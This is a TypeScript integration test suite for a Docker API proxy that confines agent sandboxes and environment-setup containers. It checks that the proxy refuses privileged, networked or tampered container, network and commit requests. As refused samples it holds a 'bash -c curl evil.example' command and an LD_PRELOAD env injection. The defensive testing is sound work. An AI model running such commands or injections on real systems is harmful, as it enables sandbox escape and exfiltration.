/**
 * The calls environments add, through the Docker API proxy against the real engine: a whole setup
 * (internal network, proxy and setup containers, connect, commit) and a sandbox from its image
 * pass; each widened field refuses what the service never sends, and the engine never sees it.
 */
import type { ContainerCreateOptions } from "dockerode";
import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { ENV_LABELS, SETUP_ROLE_LABEL } from "../../src/environments/environment_labels.ts";
import { networkBody, proxyContainerBody, setupContainerBody } from "../../src/environments/setup_bodies.ts";
import { setupLabels } from "../../src/environments/environment_labels.ts";
import { createDockerSandboxFactory } from "../../src/sandbox/docker_sandbox.ts";
import { buildCreateBody } from "../../src/sandbox/hardening.ts";
import { LABELS } from "../../src/sandbox/limits.ts";
import { tarOf, testLimits } from "../sandbox/sandbox_fixture.ts";
import { PackageIndexFixture } from "../environments/package_index_fixture.ts";
import { testEnvironmentBuilder } from "../environments/environment_fixture.ts";
import {
  containerExists,
  direct,
  type ProxyUnderTest,
  refusalOf,
  startTestProxy,
  uniqueName,
} from "./proxy_fixture.ts";

const TEST = { "dev.backend-agent.test": "true" };
let index: PackageIndexFixture;
let under: ProxyUnderTest;
/** A managed internal network made through the proxy, and a managed one with a route out made directly. */
let internal: string;
let outside: string;
let envImage: string;
const built: string[] = [];
const made = { containers: [] as string[], networks: [] as string[] };

beforeAll(async () => {
  index = await PackageIndexFixture.start(direct, { image: testLimits().image });
  under = startTestProxy({ PROXY_EGRESS_NETWORK: index.network, PROXY_MAX_SANDBOXES: "64" });
  internal = uniqueName("internal");
  await under.docker.createNetwork(
    networkBody(internal, true, setupLabels(internal, "internal-network", TEST, Date.now())),
  );
  outside = uniqueName("outside");
  await direct.createNetwork(
    networkBody(outside, false, setupLabels(outside, "egress-network", TEST, Date.now())),
  );
  made.networks.push(internal, outside);
});

afterAll(async () => {
  for (const name of made.containers) {
    await direct.getContainer(name).remove({ force: true }).catch(() => undefined);
  }
  for (const name of made.networks) await direct.getNetwork(name).remove().catch(() => undefined);
  for (const image of [envImage, ...built].filter(Boolean)) {
    await direct.getImage(image).remove({ force: true }).catch(() => undefined);
  }
  await under?.proxy.close();
  await index?.[Symbol.asyncDispose]();
});

test("a whole setup goes through the proxy, a sandbox starts from its image, and the next setup takes the spare egress pair", async () => {
  // What this builder creates, by name (the engine is shared with other tests' spares).
  const created: string[] = [];
  const create = under.docker.createContainer.bind(under.docker);
  under.docker.createContainer = ((options: ContainerCreateOptions) => {
    created.push(options.name ?? "");
    return create(options);
  }) as typeof under.docker.createContainer;
  const builder = testEnvironmentBuilder(under.docker, index, 600_000);
  const spares = () => created.filter((name) => name.startsWith("backend-agent-spare-"));
  try {
    const seed = await tarOf({ "requirements.txt": `tinyjwt==1.0.0\n# ${crypto.randomUUID()}\n` });
    const build = (bytes: Uint8Array) =>
      builder.prepare({
        spec: {
          manifests: [{ path: "requirements.txt", sha256: createHash("sha256").update(bytes).digest("hex") }],
          plan: { kind: "pip", installs: [["-r", "requirements.txt"]] },
          sources: ["requirements.txt"],
          topLevelRequirements: ["tinyjwt"],
        },
        seed: bytes,
        repo: "acme/tokens",
        name: uniqueName("env"),
        labels: TEST,
        report: () => Promise.resolve(),
      });
    const result = await build(seed);
    envImage = result.image;
    expect(result).toMatchObject({ cacheHit: false, packages: 2 });
    expect((await builder.list()).map((e) => e.image)).toContain(envImage);
    const sandbox = await createDockerSandboxFactory(under.docker, {
      limits: testLimits(),
      maxSeedBytes: 1024 * 1024,
    }).create({ name: uniqueName("sandbox"), seed, labels: TEST, image: envImage });
    try {
      const run = await sandbox.run(["python3", "-c", "import tinyjwt; print('ok')"]);
      expect(run.stdout.trim()).toBe("ok");
    } finally {
      await sandbox.dispose();
    }

    // The first setup made its own pair, then a spare while its parts were removed.
    const [first, ...none] = spares();
    expect(none).toEqual([]);
    expect(await containerExists(first!)).toBe(true);
    const madeBefore = created.length;
    const second = await build(
      await tarOf({ "requirements.txt": `tinyjwt==1.0.0\n# ${crypto.randomUUID()}\n` }),
    );
    built.push(second.image);
    expect(second.egress.map((e) => e.allowed)).toContain(true);
    // The second setup created its setup container only, on the spare pair, which it removed; the
    // pair made after it is the next spare, which closing removes.
    const mine = created.slice(madeBefore);
    expect(mine.filter((name) => !name.startsWith("backend-agent-spare-"))).toHaveLength(1);
    expect(await containerExists(first!)).toBe(false);
    const next = spares().at(-1)!;
    expect(next).not.toBe(first);
    expect(await containerExists(next)).toBe(true);
    await builder.close();
    expect(await containerExists(next)).toBe(false);
    const network = next.replace(/-proxy$/, "-internal");
    expect(await direct.getNetwork(network).inspect().then(() => "kept", () => "removed")).toBe("removed");
  } finally {
    await builder.close();
    under.docker.createContainer = create;
  }
});

describe("each widened field refuses what the service never sends", () => {
  async function expectRefused(call: Promise<unknown>, message: RegExp) {
    const refusal = await refusalOf(call);
    expect(refusal.status).toBe(403);
    expect(refusal.message).toMatch(message);
  }

  function setupBody(name: string): ContainerCreateOptions {
    return setupContainerBody({
      name,
      network: internal,
      labels: setupLabels(name, "setup", TEST, Date.now()),
    }, testLimits());
  }

  function proxyBody(name: string): ContainerCreateOptions {
    return proxyContainerBody(
      {
        name,
        network: index.network,
        labels: setupLabels(name, "proxy", TEST, Date.now()),
        allowlist: [index.host],
      },
      testLimits(),
    );
  }

  async function expectCreateRefused(body: ContainerCreateOptions, message: RegExp) {
    await expectRefused(under.docker.createContainer(body), message);
    expect(await containerExists(body.name!)).toBe(false);
  }

  test("the setup and proxy containers' own bodies pass (the control)", async () => {
    for (const body of [setupBody(uniqueName("setup")), proxyBody(uniqueName("proxy"))]) {
      await under.docker.createContainer(body);
      made.containers.push(body.name!);
      expect(await containerExists(body.name!)).toBe(true);
    }
  });

  test("a setup container only on a managed internal network, only from a base image, without volumes", async () => {
    const onBridge = setupBody(uniqueName("setup"));
    onBridge.HostConfig!.NetworkMode = "bridge";
    await expectCreateRefused(
      onBridge,
      /HostConfig\.NetworkMode must be a managed internal network, got "bridge"/,
    );
    const onHost = setupBody(uniqueName("setup"));
    onHost.HostConfig!.NetworkMode = "host";
    await expectCreateRefused(onHost, /HostConfig\.NetworkMode must be a managed internal network/);
    const onEgress = setupBody(uniqueName("setup"));
    onEgress.HostConfig!.NetworkMode = index.network;
    await expectCreateRefused(onEgress, /HostConfig\.NetworkMode must be a managed internal network/);
    const withRoute = setupBody(uniqueName("setup"));
    withRoute.HostConfig!.NetworkMode = outside;
    await expectCreateRefused(withRoute, /\(not internal\)/);
    const fromEnv = setupBody(uniqueName("setup"));
    fromEnv.Image = `backend-agent/env:${"a".repeat(64)}`;
    await expectCreateRefused(fromEnv, /Image "backend-agent\/env:a{10}.*is not an allowed base image/);
    const mounted = setupBody(uniqueName("setup"));
    mounted.HostConfig!.Mounts = [{ Type: "volume", Source: "x", Target: "/x" }];
    await expectCreateRefused(mounted, /HostConfig\.Mounts must be empty/);
    const privileged = setupBody(uniqueName("setup"));
    privileged.HostConfig!.Privileged = true;
    await expectCreateRefused(privileged, /HostConfig\.Privileged must be false/);
    const other = setupBody(uniqueName("setup"));
    other.Labels![SETUP_ROLE_LABEL] = "builder";
    await expectCreateRefused(other, /must be "setup" or "proxy", got "builder"/);
  });

  test("a writable root or a network is still refused for a sandbox (no setup role)", async () => {
    const name = uniqueName("sandbox");
    const writable = buildCreateBody({ name, volume: "unused", labels: TEST }, testLimits());
    writable.HostConfig!.Mounts = [];
    writable.HostConfig!.ReadonlyRootfs = false;
    await expectCreateRefused(writable, /HostConfig\.ReadonlyRootfs must be true/);
    const networked = buildCreateBody({ name, volume: "unused", labels: TEST }, testLimits());
    networked.HostConfig!.Mounts = [];
    networked.HostConfig!.NetworkMode = internal;
    await expectCreateRefused(networked, /HostConfig\.NetworkMode must be "none"/);
  });

  test("a sandbox starts only from an allowed image or an environment image's exact name", async () => {
    for (
      const image of [
        "backend-agent/env:latest",
        `backend-agent/env:${"a".repeat(63)}`,
        `backend-agent/envx:${"a".repeat(64)}`,
      ]
    ) {
      const body = buildCreateBody(
        { name: uniqueName("sandbox"), volume: "unused", labels: TEST },
        testLimits(),
      );
      body.HostConfig!.Mounts = [];
      body.Image = image;
      await expectCreateRefused(body, /Image .* is not an allowed image or an environment image/);
    }
  });

  test("a proxy container runs only the egress proxy, read-only, on its networks", async () => {
    const shell = proxyBody(uniqueName("proxy"));
    shell.Cmd = ["bash", "-c", "curl evil.example"];
    await expectCreateRefused(
      shell,
      /Cmd must be python3 -I \/opt\/backend-agent\/egress_proxy\.py followed by/,
    );
    const wildcard = proxyBody(uniqueName("proxy"));
    wildcard.Cmd = [...wildcard.Cmd as string[], "*"];
    await expectCreateRefused(wildcard, /Cmd must be python3 -I/);
    const entry = proxyBody(uniqueName("proxy"));
    entry.Entrypoint = ["sh"];
    await expectCreateRefused(entry, /Entrypoint must be empty/);
    const writable = proxyBody(uniqueName("proxy"));
    writable.HostConfig!.ReadonlyRootfs = false;
    await expectCreateRefused(writable, /HostConfig\.ReadonlyRootfs must be true/);
    const bridge = proxyBody(uniqueName("proxy"));
    bridge.HostConfig!.NetworkMode = "bridge";
    await expectCreateRefused(
      bridge,
      /HostConfig\.NetworkMode must be a managed internal network or PROXY_EGRESS_NETWORK/,
    );
  });

  test("a network is created only internal, a bridge, managed, with nothing else", async () => {
    const base = () =>
      networkBody(uniqueName("net"), true, setupLabels("n", "internal-network", TEST, Date.now()));
    const cases: Array<[Record<string, unknown>, RegExp]> = [
      [{ Internal: false }, /Internal must be true/],
      [{ Driver: "macvlan" }, /Driver must be "bridge"/],
      [{ Options: { "com.docker.network.bridge.name": "docker0" } }, /Options is not allowed/],
      [{ IPAM: { Config: [{ Subnet: "10.0.0.0/8" }] } }, /IPAM is not allowed/],
      [{ Attachable: true }, /Attachable must be false/],
      [{ Labels: TEST }, /Labels must include dev\.backend-agent\.managed=true/],
    ];
    for (const [change, message] of cases) {
      const body = { ...base(), ...change };
      await expectRefused(under.docker.createNetwork(body as never), message);
      expect(await direct.getNetwork(body.Name).inspect().then(() => true, () => false)).toBe(false);
    }
  });

  test("only a proxy container joins, only a managed internal network, without endpoint settings", async () => {
    const proxy = proxyBody(uniqueName("proxy"));
    await under.docker.createContainer(proxy);
    made.containers.push(proxy.name!);
    const setup = setupBody(uniqueName("setup"));
    await under.docker.createContainer(setup);
    made.containers.push(setup.name!);
    await expectRefused(
      under.docker.getNetwork(internal).connect({ Container: setup.name! }),
      /only an egress proxy container \(dev\.backend-agent\.setup-role=proxy\) joins a network/,
    );
    await expectRefused(
      under.docker.getNetwork(outside).connect({ Container: proxy.name! }),
      /must be internal/,
    );
    await expectRefused(
      under.docker.getNetwork("bridge").connect({ Container: proxy.name! }),
      /does not carry/,
    );
    await expectRefused(
      under.docker.getNetwork(internal).connect({
        Container: proxy.name!,
        EndpointConfig: { Aliases: ["pypi.org"] },
      }),
      /EndpointConfig\.Aliases is not allowed/,
    );
    await under.docker.getNetwork(internal).connect({ Container: proxy.name! });
    const joined = await direct.getContainer(proxy.name!).inspect();
    expect(Object.keys(joined.NetworkSettings.Networks).sort()).toEqual([index.network, internal].sort());
  });

  test("only a managed network is removed", async () => {
    await expectRefused(
      under.docker.getNetwork("bridge").remove(),
      /does not carry dev\.backend-agent\.managed=true/,
    );
    expect(await direct.getNetwork("bridge").inspect().then(() => true, () => false)).toBe(true);
  });

  test("only a setup container is committed, only as backend-agent/env:<key>, with labels only", async () => {
    const setup = setupBody(uniqueName("setup"));
    await under.docker.createContainer(setup);
    made.containers.push(setup.name!);
    const sandboxName = uniqueName("sandbox");
    const sandboxBody = buildCreateBody({ name: sandboxName, volume: "unused", labels: TEST }, testLimits());
    sandboxBody.HostConfig!.Mounts = [];
    await under.docker.createContainer(sandboxBody);
    made.containers.push(sandboxName);
    const key = "c".repeat(64);
    const commit = (container: string, query: Record<string, unknown>, body: Record<string, unknown>) =>
      under.docker.getContainer(container).commit({
        _query: { container, repo: "backend-agent/env", tag: key, pause: true, ...query },
        _body: body,
      });
    await expectRefused(
      commit(setup.name!, { repo: "backend-agent/python-sandbox", tag: "latest" }, {}),
      /repo must be backend-agent\/env/,
    );
    await expectRefused(commit(setup.name!, { tag: "latest" }, {}), /tag must be an environment key/);
    await expectRefused(
      commit(setup.name!, { changes: "USER root" }, {}),
      /query parameter "changes" is not allowed/,
    );
    const Labels = {
      [SETUP_ROLE_LABEL]: "",
      [ENV_LABELS.repo]: "acme/tasks",
      [ENV_LABELS.key]: key,
      [ENV_LABELS.created]: "2026-01-01T00:00:00.000Z",
      [ENV_LABELS.size]: "1",
      [ENV_LABELS.packages]: "1",
    };
    await expectRefused(commit(setup.name!, {}, { Labels, User: "0:0" }), /User is not allowed/);
    await expectRefused(commit(setup.name!, {}, { Labels, Env: ["LD_PRELOAD=/x.so"] }), /Env is not allowed/);
    await expectRefused(commit(setup.name!, {}, { Labels, Cmd: ["sh"] }), /Cmd is not allowed/);
    // The labels are exactly the environment's, the setup role emptied: an image cannot pass for a
    // setup part, or carry a label the service does not set.
    const labelRefusal = /Labels must be exactly .*dev\.backend-agent\.setup-role empty/;
    await expectRefused(
      commit(setup.name!, {}, { Labels: { ...Labels, [SETUP_ROLE_LABEL]: "setup" } }),
      labelRefusal,
    );
    await expectRefused(
      commit(setup.name!, {}, { Labels: { ...Labels, [SETUP_ROLE_LABEL]: "proxy" } }),
      labelRefusal,
    );
    await expectRefused(
      commit(setup.name!, {}, { Labels: { ...Labels, [LABELS.managed]: "false" } }),
      labelRefusal,
    );
    await expectRefused(
      commit(setup.name!, {}, { Labels: { ...Labels, "com.example.x": "1" } }),
      labelRefusal,
    );
    const { [ENV_LABELS.key]: _key, ...withoutKey } = Labels;
    await expectRefused(commit(setup.name!, {}, { Labels: withoutKey }), labelRefusal);
    await expectRefused(commit(setup.name!, {}, {}), /Labels/);
    await expectRefused(
      commit(sandboxName, {}, { Labels }),
      /only a setup container \(dev\.backend-agent\.setup-role=setup\) is committed/,
    );
    expect(await direct.getImage(`backend-agent/env:${key}`).inspect().then(() => true, () => false)).toBe(
      false,
    );
  });

  test("a sandbox does not start from an image whose setup role is not empty", async () => {
    // Made on the engine directly: through the proxy a commit can only empty the role.
    const key = "d".repeat(64);
    const source = await direct.createContainer({ Image: testLimits().image, Cmd: ["true"], Labels: TEST });
    try {
      await source.commit({
        repo: "backend-agent/env",
        tag: key,
        _body: { Labels: { [SETUP_ROLE_LABEL]: "setup", [LABELS.managed]: "true" } },
      });
    } finally {
      await source.remove({ force: true });
    }
    try {
      const name = uniqueName("sandbox");
      const body = buildCreateBody({ name, volume: "unused", labels: TEST }, {
        ...testLimits(),
        image: `backend-agent/env:${key}`,
      });
      body.HostConfig!.Mounts = [];
      await expectRefused(
        under.docker.createContainer(body),
        /image backend-agent\/env:d{64} carries dev\.backend-agent\.setup-role="setup"/,
      );
      expect(await containerExists(name)).toBe(false);
    } finally {
      await direct.getImage(`backend-agent/env:${key}`).remove({ force: true }).catch(() => undefined);
    }
  });

  test("only allowed and environment images are inspected, listed or removed", async () => {
    await expectRefused(
      under.docker.getImage("debian:bookworm").inspect(),
      /is not an allowed image or an environment image/,
    );
    await expectRefused(under.docker.getImage(testLimits().image).remove(), /DELETE .* is not allowed/);
    await expectRefused(
      under.docker.getImage(`backend-agent/env:${"a".repeat(63)}`).remove(),
      /is not allowed/,
    );
    const listed = await under.docker.listImages({ filters: JSON.stringify({ label: [ENV_LABELS.key] }) });
    expect(listed.every((image) => image.Labels?.[LABELS.managed] === "true")).toBe(true);
    const unfiltered = await under.docker.listImages();
    expect(unfiltered.some((image) => (image.RepoTags ?? []).includes(testLimits().image))).toBe(false);
  });
});
